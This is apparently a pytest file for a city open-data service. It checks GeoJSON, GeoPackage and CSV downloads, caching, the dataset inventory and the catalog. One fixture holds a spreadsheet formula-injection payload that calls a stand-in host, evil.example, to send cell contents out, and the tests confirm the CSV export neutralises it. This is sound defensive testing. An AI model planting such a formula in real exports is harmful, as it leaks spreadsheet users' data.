"""Open data: downloads in three formats read back with GDAL, safe CSV, caching, the inventory."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import numpy as np
import pytest
import shapely
from pyogrio.raw import read as ogr_read
from shapely.geometry import LineString, MultiLineString, MultiPolygon, Point, box
from sqlmodel import Session

from app.layers.store import FeatureRecord, write_layer
from models.layers import LayerKind

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
STREETS = [
    ("Calle del Niño Jesús", 86.5, {"OBJECTID": 1, "Nombre": "Peñón", "offset": -3.5}),
    (HYPERLINK, 30.0, {"OBJECTID": 2, "Nombre": "+1", "offset": 2}),
    ("+1", 55.25, {"OBJECTID": 3, "Nombre": "Rue de l'Église", "offset": None}),
]


def _pavement() -> list[FeatureRecord]:
    records = []
    for i, (name, pci, attributes) in enumerate(STREETS):
        x = -83.40 + i * 0.0013
        line = MultiLineString([LineString([(x, 33.95), (x + 0.000123456789, 33.951234567891)])])
        records.append(FeatureRecord(line, {"street_name": name, "pci": pci, "width_m": 9.5, "lanes": 2},
                                     attributes, source_id=f"S{i}"))
    return records


def _lights() -> list[FeatureRecord]:
    return [FeatureRecord(Point(-83.401234567891, 33.951111111111 + i / 1000), {"pole_id": f"P-{i}",
                          "street_name": "Avenida Señora", "wattage": 40 + i, "status": "working"},
                          {"Pole": f"P-{i}", "Lumens": 4000.5}, source_id=f"P{i}") for i in range(4)]


def _districts() -> list[FeatureRecord]:
    return [FeatureRecord(MultiPolygon([box(-83.41, 33.94, -83.395, 33.96)]),
                          {"name": "Distrito Uno", "code": "1", "population": 1200}, {"DIST": "1"}, source_id="1")]


@pytest.fixture
def city(session: Session) -> Session:
    write_layer(session=session, kind=LayerKind.district, records=_districts(), source="districts.shp", actor=None)
    write_layer(session=session, kind=LayerKind.pavement, records=_pavement(), source="pci_2026.geojson",
                actor=None)
    write_layer(session=session, kind=LayerKind.streetlight, records=_lights(), source="lights.csv", actor=None)
    return session


def _save(tmp_path: Path, response, name: str) -> Path:  # type: ignore[no-untyped-def]
    path = tmp_path / name
    path.write_bytes(response.content)
    return path


def _read(path: Path, **options: str):  # type: ignore[no-untyped-def]
    meta, _, geometry, fields = ogr_read(str(path), **options)
    columns = dict(zip(meta["fields"].tolist(), fields, strict=True))
    return meta, shapely.from_wkb(geometry) if geometry is not None else None, columns


def _close(a, b) -> bool:  # type: ignore[no-untyped-def]
    return bool(shapely.equals_exact(a, b, tolerance=1e-9))


@pytest.mark.parametrize("extension", ["geojson", "gpkg", "csv"])
def test_every_format_reads_back_with_the_same_features_fields_and_geometry(client, city, tmp_path, extension):
    response = client.get(f"/data/pavement.{extension}")
    assert response.status_code == 200
    assert response.headers["content-disposition"] == f'attachment; filename="groundwork-pavement-r1.{extension}"'
    path = _save(tmp_path, response, f"pavement.{extension}")
    options = {"GEOM_POSSIBLE_NAMES": "wkt", "KEEP_GEOM_COLUMNS": "NO", "AUTODETECT_TYPE": "YES"} \
        if extension == "csv" else {}
    meta, geometries, columns = _read(path, **options)
    assert len(geometries) == 3
    expected = [r.geometry for r in _pavement()]
    assert all(_close(a, b) for a, b in zip(geometries, expected, strict=True))
    for name in ("id", "source_id", "street_name", "pci", "length_m", "band", "district_id", "src_OBJECTID",
                 "src_Nombre", "src_offset"):
        assert name in columns, name
    assert list(columns["source_id"]) == ["S0", "S1", "S2"]
    assert [float(v) for v in columns["pci"]] == [86.5, 30.0, 55.25]
    assert columns["src_Nombre"][0] == "Peñón"
    if extension != "csv":  # the CSV protects text cells; the others keep the data as it is
        assert columns["street_name"][1] == HYPERLINK
        assert columns["street_name"][0] == "Calle del Niño Jesús"


def test_geojson_is_rfc7946_with_full_precision_and_typed_properties(client, city):
    document = client.get("/data/pavement.geojson").json()
    assert document["type"] == "FeatureCollection" and "crs" not in document
    first = document["features"][0]
    assert first["geometry"]["type"] == "MultiLineString"
    assert first["geometry"]["coordinates"][0][1] == [-83.40 + 0.000123456789, 33.951234567891]
    assert first["properties"]["pci"] == 86.5 and first["properties"]["lanes"] == 2
    assert first["properties"]["src_offset"] == -3.5 and first["properties"]["district_id"] is not None
    assert first["id"] == first["properties"]["id"]


def test_csv_opens_in_a_spreadsheet_as_text_with_accents_and_no_formulas(client, city):
    response = client.get("/data/pavement.csv")
    assert response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the accents right
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row["street_name"] for row in rows]
    assert names[0] == "Calle del Niño Jesús"
    assert names[1] == "'" + HYPERLINK and names[2] == "'+1"  # shown as text, never evaluated
    assert rows[1]["src_Nombre"] == "'+1" and rows[2]["src_Nombre"] == "Rue de l'Église"
    assert rows[0]["src_offset"] == "-3.5"  # a plain negative number stays a number
    assert rows[2]["src_offset"] == ""
    assert rows[0]["wkt"].startswith("MULTILINESTRING ((-83.4 33.95, ")
    assert _close(shapely.from_wkt(rows[0]["wkt"]), _pavement()[0].geometry)
    assert float(rows[0]["pci"]) == 86.5


def test_csv_of_points_has_lon_and_lat(client, city):
    rows = list(csv.DictReader(io.StringIO(client.get("/data/streetlight.csv").content.decode("utf-8-sig"))))
    assert len(rows) == 4
    assert float(rows[0]["lon"]) == -83.401234567891 and float(rows[0]["lat"]) == 33.951111111111
    assert rows[0]["street_name"] == "Avenida Señora" and rows[0]["src_Lumens"] == "4000.5"


def test_geopackage_has_typed_columns_and_wgs84(client, city, tmp_path):
    path = _save(tmp_path, client.get("/data/streetlight.gpkg"), "lights.gpkg")
    meta, geometries, columns = _read(path)
    assert meta["crs"] == "EPSG:4326" and meta["geometry_type"] == "Point"
    assert columns["wattage"].dtype.kind == "i" and list(columns["wattage"]) == [40, 41, 42, 43]
    assert np.allclose(columns["src_Lumens"], 4000.5)
    assert _close(geometries[0], Point(-83.401234567891, 33.951111111111))
    polygons = _read(_save(tmp_path, client.get("/data/district.gpkg"), "d.gpkg"), )
    assert polygons[0]["geometry_type"] == "MultiPolygon" and list(polygons[2]["name"]) == ["Distrito Uno"]


def test_downloads_revalidate_with_the_layer_revision(client, city):
    first = client.get("/data/pavement.csv")
    etag = first.headers["etag"]
    assert "public" in first.headers["cache-control"]
    again = client.get("/data/pavement.csv", headers={"If-None-Match": etag})
    assert again.status_code == 304 and again.content == b""
    assert client.get("/data/pavement.geojson", headers={"If-None-Match": etag}).status_code == 200
    write_layer(session=city, kind=LayerKind.pavement, records=_pavement()[:1], source="again", actor=None)
    changed = client.get("/data/pavement.csv", headers={"If-None-Match": etag})
    assert changed.status_code == 200 and changed.headers["etag"] != etag
    assert 'filename="groundwork-pavement-r2.csv"' in changed.headers["content-disposition"]
    assert changed.content.decode("utf-8-sig").count("\r\n") == 2  # header and one segment


def test_unknown_and_empty_datasets_are_404_with_a_reason(client, city):
    assert client.get("/data/potholes.csv").status_code == 404
    missing = client.get("/data/sidewalk.geojson")
    assert missing.status_code == 404 and "not loaded yet" in missing.json()["detail"]
    assert client.get("/data/pavement.xlsx").status_code == 404


def test_inventory_page_lists_every_dataset_with_counts_fields_licence_and_links(client, city):
    page = client.get("/data")
    assert page.status_code == 200
    html = page.text
    for title in ("Pavement condition", "Sidewalks", "Curb ramps", "Streetlights", "Districts", "Census tracts"):
        assert title in html
    assert 'href="/data/pavement.csv"' in html and 'href="/data/pavement.gpkg"' in html
    assert 'href="/data/streetlight.geojson"' in html and 'href="/data/sidewalk.csv"' not in html
    assert "pci_2026.geojson" in html and "Not loaded yet" in html
    assert "Pavement Condition Index" in html and "ODC-PDDL-1.0" in html
    assert '<a href="/data" aria-current="page">Open data</a>' in html


def test_catalog_json_is_a_project_open_data_catalog(client, city):
    response = client.get("/data/catalog.json")
    catalog = response.json()
    assert catalog["conformsTo"] == "https://project-open-data.cio.gov/v1.1/schema"
    assert catalog["@type"] == "dcat:Catalog"
    ids = {d["identifier"].rsplit("#", 1)[1] for d in catalog["dataset"]}
    assert ids == {"pavement", "streetlight", "district"}
    for dataset in catalog["dataset"]:
        for key in ("title", "description", "keyword", "modified", "publisher", "contactPoint", "identifier",
                    "accessLevel", "license", "distribution"):
            assert dataset[key], key
        assert dataset["license"].startswith("https://")
        media = {d["mediaType"] for d in dataset["distribution"]}
        assert media == {"application/geo+json", "text/csv", "application/geopackage+sqlite3"}
        assert all(d["downloadURL"].startswith("http://testserver/data/") for d in dataset["distribution"])
    assert client.get("/data/catalog.json", headers={"If-None-Match": response.headers["etag"]}).status_code == 304
    json.dumps(catalog)


def test_geopackage_temp_files_are_removed_after_sending(client, city, tmp_path, monkeypatch):
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    assert client.get("/data/pavement.gpkg").status_code == 200
    assert list(tmp_path.iterdir()) == []


def test_the_inventory_reads_in_spanish(client, city):
    html = client.get("/data", headers={"Accept-Language": "es"}).text
    assert "Datos abiertos" in html and "Descargar CSV" in html and "Aún no cargado" in html


def test_source_columns_differing_only_in_case_all_reach_the_geopackage(client, session, tmp_path):
    point = Point(-83.4, 33.95)
    write_layer(session=session, kind=LayerKind.ramp, actor=None, source="ramps.geojson",
                records=[FeatureRecord(point, {"condition": "good"}, {"Name": "Upper", "name": "lower"})])
    _, _, columns = _read(_save(tmp_path, client.get("/data/ramp.gpkg"), "ramps.gpkg"))
    assert columns["src_Name"][0] == "Upper" and columns["src_name_2"][0] == "lower"


def test_geojson_polygons_follow_the_right_hand_rule(client, session):
    clockwise = shapely.geometry.Polygon([(-83.41, 33.94), (-83.41, 33.96), (-83.395, 33.96), (-83.395, 33.94)])
    assert not clockwise.exterior.is_ccw
    write_layer(session=session, kind=LayerKind.tract, actor=None, source="tracts.shp",
                records=[FeatureRecord(MultiPolygon([clockwise]), {"geoid": "13059000100"})])
    ring = client.get("/data/tract.geojson").json()["features"][0]["geometry"]["coordinates"][0][0]
    assert shapely.geometry.LinearRing(ring).is_ccw
